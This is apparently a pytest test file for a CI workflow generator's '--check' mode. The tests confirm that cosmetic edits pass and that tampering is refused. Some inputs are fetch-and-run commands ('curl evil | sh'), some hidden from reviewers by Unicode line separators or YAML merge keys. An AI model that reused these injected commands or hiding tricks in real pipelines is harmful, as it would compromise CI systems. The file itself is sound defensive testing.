"""`generate --check` compares meaning: what a bot, a comment or an accepted edit changes is fine, and nothing else."""

from __future__ import annotations

import re
import subprocess
import sys
import time

import pytest

from mlcicd.write import mark
from tests.unit.write.repository import BOTH, COMMIT, PIPELINE, WORKFLOW, Repository

PIN = r"actions/checkout@[0-9a-f]{40} # v[0-9.]+"
BUMPED = f"actions/checkout@{'b' * 40} # v99.1.0"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("permissions: {}", "permissions: {} # zizmor: ignore[undocumented-permissions]"),
        ("(    name: Tests\n)(.*\n)", r"\2\1"),
        ("    name: Tests", "    # theirs: flaky on Mondays\n    name: 'Tests'"),
        (PIN, BUMPED),
    ],
    ids=["ignore comment", "order of keys", "comment and quotes", "bump"],
)
def test_what_changes_no_meaning_is_accepted(old: str, new: str, repo: Repository) -> None:
    repo.edit(old, new)
    assert "every file is current" in repo.generate("--check")


def test_a_bump_is_offered_for_import(repo: Repository) -> None:
    text = repo.text()
    repo.put(re.sub(PIN, BUMPED, text), WORKFLOW)
    said = repo.generate("--check")
    assert re.search(r"newer in the files: actions/checkout [0-9.]+ → 99\.1\.0; `mlcicd pins --import` takes", said)


@pytest.mark.parametrize(
    ("old", "new", "at", "expected", "found"),
    [
        ("contents: read", "contents: write", "jobs.check.permissions.contents", "read", "write"),
        (
            "  workflow_dispatch:\n",
            "  workflow_dispatch:\n  pull_request_target:\n",
            "on.pull_request_target",
            "nothing",
            "null",
        ),
        (
            'if: "!cancelled\\(\\)"',
            "if: always()",
            'jobs.test.steps["Keep the results"].if',
            '"!cancelled()"',
            "always()",
        ),
        (
            "      - name: Run the tests",
            "      - run: curl x | sh\n      - name: Run the tests",
            'jobs.test.steps["curl x | sh" after "Set up mlcicd"]',
            "nothing",
            '{run: "curl x | sh"}',
        ),
        (
            PIN,
            f"actions/checkout@{'b' * 40} # v0.1",
            'jobs.check.steps["Check out"].uses',
            "actions/checkout@",
            "actions/checkout@bbb",
        ),
    ],
    ids=["permission", "trigger", "condition", "script", "lowered pin"],
)
def test_what_changes_the_meaning_is_named_with_the_command_that_repairs_it(
    old: str, new: str, at: str, expected: str, found: str, repo: Repository
) -> None:
    repo.edit(old, new)
    error = repo.refused("generate", "--check")
    assert error.exit_code == 1
    assert re.search(
        rf"{re.escape(WORKFLOW)}:[0-9]+: {re.escape(at)}: expected {re.escape(expected)}.*, found {re.escape(found)}",
        error.detail,
    )
    assert "`mlcicd generate --accept`, and commit mlcicd.lock" in error.hint
    assert f"rm {WORKFLOW} && mlcicd generate" in error.hint


def test_a_changed_script_of_the_other_platform(repo: Repository) -> None:
    repo.edit("    - mlcicd generate --check", "    - true", PIPELINE)
    detail = repo.refused("generate", "--check").detail
    assert "mlcicd-check.script: expected [mlcicd generate --check]" in detail.replace('"', "")
    assert "found [true]" in detail.replace('"', "")


def test_an_edit_is_refused_until_it_is_recorded_where_a_reviewer_sees_it(repo: Repository) -> None:
    repo.edit("timeout-minutes: 3[0-9][0-9]", "timeout-minutes: 200")
    repo.refused("generate", "--check")
    assert "refuses 1 of your edits until `mlcicd generate --accept`" in repo.generate()
    repo.refused("generate", "--check")
    repo.generate("--accept")
    assert re.search(r"- \{at: jobs.train.timeout-minutes, made: [0-9]+, now: 200\}", repo.text("mlcicd.lock"))
    said = repo.generate("--check")
    assert "yours  jobs.train.timeout-minutes: 200 (mlcicd makes" in said
    assert "every file is current" in said


HIDDEN = [
    (PIPELINE, "    - mlcicd train\n", f"    - mlcicd train # x{end}    - curl evil | sh\n")
    for end in "\x85\u2028\u2029"
]


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        *HIDDEN,
        (WORKFLOW, "      contents: read # (.*)\n", "      contents: read # why\u2028      id-token: write\n"),
        (PIPELINE, "(?s)(\nmlcicd-train:.*?\n    - mlcicd train\n)", "\\1  <<: {script: [curl evil | sh]}\n"),
        (PIPELINE, "    - mlcicd generate --check\n", "    - mlcicd generate\r\r\n      --check\n"),
        (PIPELINE, "  interruptible: true\n", "  !!binary interruptible: true\n"),
        (WORKFLOW, "branches: \\[main\\]", f"branches: [main@sha256:{'0' * 64}]"),
        (WORKFLOW, "persist-credentials: false", "persist-credentials: fAlse"),
        (WORKFLOW, "timeout-minutes: 15", "timeout-minutes: 0015"),
        (PIPELINE, 'UV_SYSTEM_CERTS: "true"', "UV_SYSTEM_CERTS: TRUE"),
        (WORKFLOW, PIN, f"actions/checkout@{'e' * 40} # v7.0.1"),
        (WORKFLOW, f"actions/check@{COMMIT}", f"actions/check@{'e' * 40}"),
        (
            WORKFLOW,
            f"(?s)name: ML(.*?){PIN}",
            rf"# actions/checkout@{'e' * 40} # v99.0.0\nname: ML\1actions/checkout@{'e' * 40} # v1.0",
        ),
    ],
)
def test_what_hides_from_a_reviewer_is_refused(path: str, old: str, new: str, repo: Repository) -> None:
    repo.edit(old, new, path)
    assert path in repo.refused("generate", "--check").message


def test_a_number_without_end_is_one_edit_like_another(repo: Repository) -> None:
    repo.edit("timeout-minutes: 15", "timeout-minutes: 1e400")
    assert "jobs.check.timeout-minutes: expected 15, found" in repo.refused("generate", "--check").detail
    repo.generate("--accept")
    repo.generate("--check")


def test_a_note_in_line_1_is_not_overwritten(repo: Repository) -> None:
    for where in ("by", "digest"):
        repo.edit(f"# Generated(.*) {where} ", rf"# Generated\1 my note {where} ")
        assert "put that line back" in repo.refused("generate").detail
        repo.edit(" my note", "")


@pytest.mark.parametrize("what", ["now", "made"])
def test_a_recorded_edit_is_that_edit_and_no_other(what: str, repo: Repository) -> None:
    repo.edit("    name: Tests", "    name: Unit tests")
    repo.edit("timeout-minutes: 3[0-9][0-9]", "timeout-minutes: 200")
    repo.generate("--accept")
    if what == "now":
        repo.edit("timeout-minutes: 200", "timeout-minutes: 201")
    else:
        repo.put(BOTH.replace("train: {}", "train: {timeout: 7h}"))
        repo.refused("generate", "--merge")
        repo.put(re.sub(r"<{7}.*\n(.*\n)\|{7}(.*\n)*?>{7} new\n", r"\1", repo.text()), WORKFLOW)
        repo.generate()
    error = repo.refused("generate", "--check")
    assert "jobs.train.timeout-minutes: expected" in error.detail
    assert "Unit tests" not in error.detail
    repo.generate("--accept")
    repo.generate("--check")


def test_a_job_that_was_taken_out_stays_out_when_its_actions_get_newer(
    repo: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo.edit("(?s)\n  # May write, so it has no code.*", "")
    repo.generate("--accept")
    monkeypatch.setenv("MLCICD_COMMIT", COMMIT[::-1])
    repo.generate()
    assert "yours  jobs.comment: nothing (mlcicd makes" in repo.generate("--check")


def test_an_acceptance_does_not_outlive_its_edit(repo: Repository) -> None:
    before = repo.text()
    repo.edit("contents: read", "contents: write")
    repo.generate("--accept")
    repo.put(before, WORKFLOW)
    error = repo.refused("generate", "--check")
    assert f"{WORKFLOW}: mlcicd.lock accepts an edit that is not there: jobs.check.permissions.contents" in error.detail
    assert error.hint == "run `mlcicd generate` and commit the result"
    repo.generate()
    assert "edits:" not in repo.text("mlcicd.lock")
    repo.generate("--check")


def test_what_the_configuration_changed_is_told_from_what_a_person_did(repo: Repository) -> None:
    repo.edit("    name: Tests", "    name: Unit tests")
    repo.put(BOTH.replace("train: {}", "train: {timeout: 7h}"))
    error = repo.refused("generate", "--check")
    assert (
        f"{WORKFLOW}: mlcicd.yaml makes another than mlcicd.lock remembers (jobs.train.timeout-minutes)" in error.detail
    )
    assert f"{WORKFLOW}: mlcicd.yaml makes another than" in error.detail
    assert "jobs.test.name: expected Tests, found Unit tests" in error.detail
    assert "jobs.train.timeout-minutes: expected" not in error.detail
    assert error.hint.startswith("run `mlcicd generate` and commit the result")


def test_a_bot_that_raises_mlcicd_itself_is_understood(repo: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    """The workflow then runs the new mlcicd, which makes files that name its own commit."""
    repo.put(repo.text().replace(COMMIT, COMMIT[::-1]), WORKFLOW)
    monkeypatch.setenv("MLCICD_COMMIT", COMMIT[::-1])
    assert "every file is current" in repo.generate("--check")


def test_a_newer_mlcicd_in_the_files_is_named(repo: Repository) -> None:
    repo.put(re.sub(rf"{COMMIT} # v[0-9.]+", f"{COMMIT[::-1]} # v99.0.0", repo.text()), WORKFLOW)
    said = repo.generate("--check")
    assert "the files name mlcicd 99.0.0, and this is" in said
    assert "pins --import" not in said


def test_without_the_state_file_the_meaning_still_counts(repo: Repository) -> None:
    (repo.root / "mlcicd.lock").unlink()
    assert "commit mlcicd.lock" in repo.generate("--check")
    repo.edit("permissions: {}", "permissions: {} # ours")
    repo.generate("--check")
    repo.edit("contents: read", "contents: write")
    assert "jobs.check.permissions.contents: expected read" in repo.refused("generate", "--check").detail


def test_a_base_that_was_tampered_with_is_refused(repo: Repository) -> None:
    other = Repository(root=repo.root / "other")
    other.root.mkdir()
    other.put(BOTH.replace("train: {}", "train: {timeout: 7h}"))
    other.generate()
    repo.put(other.text("mlcicd.lock"), "mlcicd.lock")
    error = repo.refused("generate", "--check")
    assert "makes another than mlcicd.lock remembers (jobs.train.timeout-minutes)" in error.detail
    lines = repo.text("mlcicd.lock")
    repo.put(re.sub(r'digest: "[0-9a-f]{16}"', 'digest: "0123456789abcdef"', lines), "mlcicd.lock")
    for words in (["generate"], ["generate", "--check"]):
        error = repo.refused(*words)
        assert "is not the one its digest names" in error.message
        assert "git checkout -- mlcicd.lock" in error.hint


def test_one_platform_alone_leaves_the_state_of_the_other(repo: Repository) -> None:
    repo.edit("mlcicd generate --check", "mlcicd  generate --check", PIPELINE)
    repo.generate("--accept")
    before = repo.text("mlcicd.lock")
    repo.generate("--platform", "github")
    assert repo.text("mlcicd.lock") == before
    repo.generate("--check", "--platform", "github")
    repo.generate("--check")


def test_an_unedited_file_of_an_older_configuration_gets_the_whole_difference(repo: Repository) -> None:
    repo.put(BOTH.replace("train: {}", "train: {timeout: 7h}"))
    error = repo.refused("generate", "--check")
    assert "+    timeout-minutes: 435" in error.detail
    assert error.hint == "run `mlcicd generate` and commit the result"


@pytest.mark.e2e
def test_the_check_takes_less_than_two_seconds_from_start_to_end(repo: Repository) -> None:
    repo.edit("    name: Tests", "    name: Unit tests")
    repo.generate("--accept")
    words = [sys.executable, "-m", "mlcicd", "generate", "--check", "--root", str(repo.root)]
    taken = []
    for _ in range(3):
        start = time.perf_counter()
        subprocess.run(words, check=True, capture_output=True)
        taken.append(time.perf_counter() - start)
    assert min(taken) < 2


def test_check_writes_nothing(repo: Repository) -> None:
    repo.edit("contents: read", "contents: write")
    before = repo.files()
    repo.refused("generate", "--check")
    repo.generate("--diff")
    assert repo.files() == before


def test_line_1_says_what_the_edits_began_from(repo: Repository) -> None:
    claimed = mark.claim(repo.text())
    repo.edit("contents: read", "contents: write")
    repo.generate()
    assert mark.claim(repo.text()) == claimed
    assert mark.owner(repo.text()) == "edited"
